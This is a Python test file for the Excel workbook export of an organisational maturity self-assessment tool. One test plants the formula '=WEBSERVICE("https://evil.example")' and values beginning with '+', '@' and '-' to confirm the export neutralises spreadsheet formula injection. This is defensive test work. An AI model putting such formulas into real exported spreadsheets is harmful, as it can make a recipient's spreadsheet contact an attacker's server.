"""The workbook download: what colleagues get to fill in offline."""

from __future__ import annotations

from maturity.reports import rows
from maturity.reports import workbook as wbk
from tests.reports.conftest import report_url
from tests.reports.workbooks import open_workbook, row_of_action, row_of_area

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_the_workbook_has_areas_actions_descriptors_and_about_sheets(full):
    wb = open_workbook(wbk.export_workbook(full))
    assert wb.sheetnames[:5] == [wbk.AREAS, wbk.ACTIONS, wbk.DOCUMENTS, wbk.DESCRIPTORS, wbk.ABOUT]
    assert wb[wbk.LISTS].sheet_state == "hidden"
    assert [c.value for c in wb[wbk.AREAS][1]] == wbk.AREA_COLUMNS
    assert [c.value for c in wb[wbk.ACTIONS][1]] == wbk.ACTION_COLUMNS
    assert wb[wbk.AREAS].max_row == 1 + full.framework.areas.count()
    assert wb[wbk.ACTIONS].max_row == 1 + 50


def test_each_area_row_holds_the_answer_with_levels_named(full):
    wb = open_workbook(wbk.export_workbook(full))
    response = full.responses.select_related("area__section").order_by("area__position")[1]
    ws, row = wb[wbk.AREAS], row_of_area(wb, response.area.key)
    names = full.framework.level_names
    values = {title: ws.cell(row, i).value for i, title in enumerate(wbk.AREA_COLUMNS, start=1)}
    assert values == {
        "Section": response.area.section.title,
        "Area key": response.area.key,
        "Area": response.area.label,
        "Current level": f"{response.current_level} – {names[response.current_level]}",
        "Target level": f"{response.target_level} – {names[response.target_level]}",
        "Target year": response.target_year,
        "Evidence": response.evidence,
        "Links": "\n".join(response.evidence_links),
        "Confidence": response.get_confidence_display(),
        "Version": str(rows.stamp(response.version, rows.saved_area_values(response, names))),
    }
    assert ws.column_dimensions["J"].hidden and ws["J2"].protection.locked


def test_levels_confidence_areas_and_statuses_are_drop_down_lists(full):
    wb = open_workbook(wbk.export_workbook(full))
    lists = wb[wbk.LISTS]
    levels = [c.value for c in lists["A"] if c.value]
    assert levels == [f"{n} – {name}" for n, name in sorted(full.framework.level_names.items())]
    assert [c.value for c in lists["B"] if c.value] == ["Low", "Medium", "High"]
    assert [c.value for c in lists["D"] if c.value] == ["Not started", "In progress", "Done", "Blocked"]
    areas_validations = {str(v.sqref): v.formula1 for v in wb[wbk.AREAS].data_validations.dataValidation}
    assert areas_validations["D2:E15"] == "Lists!$A$1:$A$5"
    assert areas_validations["I2:I15"] == "Lists!$B$1:$B$3"
    actions_validations = {v.formula1 for v in wb[wbk.ACTIONS].data_validations.dataValidation}
    assert actions_validations == {"Lists!$C$1:$C$14", "Lists!$D$1:$D$4"}


def test_the_area_key_is_locked_and_the_answers_are_not(full):
    wb = open_workbook(wbk.export_workbook(full))
    ws = wb[wbk.AREAS]
    assert ws.protection.sheet
    assert ws["B2"].protection.locked
    assert not ws["D2"].protection.locked and not ws["I2"].protection.locked


def test_the_descriptors_sheet_gives_each_level_of_each_area_in_plain_text(full):
    wb = open_workbook(wbk.export_workbook(full))
    ws = wb[wbk.DESCRIPTORS]
    area = full.framework.areas.order_by("position").first()
    assert ws.cell(2, 2).value == area.label
    descriptor = ws.cell(2, 3).value
    assert descriptor and "<" not in descriptor
    assert ws.cell(1, 3).value == f"1 – {full.framework.level_names[1]}"


def test_the_about_sheet_names_the_organisation_assessment_and_framework(full):
    wb = open_workbook(wbk.export_workbook(full))
    facts = {row[0].value: row[1].value for row in wb[wbk.ABOUT].iter_rows(max_col=2)}
    assert facts[wbk.ABOUT_ORGANISATION] == "Camden"
    assert facts[wbk.ABOUT_ASSESSMENT_ID] == full.pk
    assert facts[wbk.ABOUT_FRAMEWORK_REF] == full.framework.ref


def test_a_formula_in_evidence_or_an_action_cannot_run_in_the_workbook(full):
    response = full.responses.order_by("area__position").first()
    response.evidence = '=WEBSERVICE("https://evil.example")'
    response.save()
    action = full.actions.first()
    action.title, action.owner_name, action.description = "+1", "@me", "-x"
    action.save()
    wb = open_workbook(wbk.export_workbook(full))
    assert wb[wbk.AREAS].cell(row_of_area(wb, response.area.key), 7).value == "'" + response.evidence
    assert [wb[wbk.ACTIONS].cell(row_of_action(wb, action.pk), c).value for c in (3, 4, 5)] == ["'+1", "'-x", "'@me"]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"


def test_an_error_code_in_evidence_stays_text(full):
    response = full.responses.order_by("area__position").first()
    response.evidence = "#N/A"
    response.save()
    wb = open_workbook(wbk.export_workbook(full))
    cell = wb[wbk.AREAS].cell(row_of_area(wb, response.area.key), 7)
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_any_member_downloads_the_workbook(client, full, viewer):
    client.force_login(viewer)
    response = client.get(report_url("workbook", full))
    assert response.status_code == 200
    assert response["Content-Type"] == wbk.CONTENT_TYPE
    assert (
        response["Content-Disposition"] == f'attachment; filename="{full.organisation.slug}-self-assessment-2026.xlsx"'
    )
